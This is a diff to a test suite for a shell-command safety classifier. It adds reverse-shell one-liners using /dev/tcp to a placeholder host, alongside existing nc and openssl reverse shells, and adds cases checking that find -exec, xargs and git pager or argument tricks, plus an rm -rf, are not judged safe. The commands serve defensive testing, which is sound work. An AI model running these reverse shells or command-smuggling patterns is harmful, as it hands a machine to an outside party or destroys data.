@@ -36,6 +36,8 @@ describe('a secret on its way to the network', () => {
 describe('a shell that another machine gives commands to', () => {
   it.each([
     'mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.4:443 > /tmp/s',
+    'bash -i >& /dev/tcp/203.0.113.4/9 0>&1',
+    'sh -i 5<> /dev/tcp/203.0.113.4/99 0<&5 1>&5 2>&5',
     'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.4 4242 > /tmp/f',
   ])('is blocked: %s', (command) => {
     expect(verdictOf(command)).toBe('destructive execution/reverse-shell')
@@ -96,5 +98,34 @@ describe('texts that multiply', () => {
     '*'.repeat(2_000),
   ])('are refused, not followed: %.20s…', (command) => {
     expect(judge(command).tier).not.toBe('safe')
+  })
+})
+
+describe('words that are found or computed', () => {
+  it.each([
+    `find . -name '*.ts' -exec sh -c 'wc -l "$1"' _ {} \\;`,
+    `find . -name '*.ts' -exec sh -c 'for f; do wc -l "$f"; done' _ {} +`,
+    "find . -name '*.sh' -exec bash -n {} \\;",
+    'git log --author="$(git config user.email)"',
+    'GIT_PAGER=cat git log -3',
+    'export PAGER=cat; git log',
+  ])('are harmless as the arguments of what is written out: %s', (command) => {
+    expect(judge(command).tier).toBe('safe')
+  })
+
+  it.each([
+    "find . -exec sh -c '{}' \\;",
+    'find . -exec sh -c \'sh -c "$1"\' _ {} \\;',
+    `find . -name '*.sh' -exec sh -c '. "$1"' _ {} \\;`,
+    'ls | xargs sh -c',
+    'git log "--$x"',
+    'git log --output="$D"',
+    'GIT_PAGER=./x git log',
+  ])('are not, where they are what runs: %s', (command) => {
+    expect(judge(command).tier).not.toBe('safe')
+  })
+
+  it('are everything, where only their depth is limited', () => {
+    expect(judge('find . -mindepth 1 -maxdepth 1 -exec rm -rf {} +').tier).toBe('destructive')
   })
 })
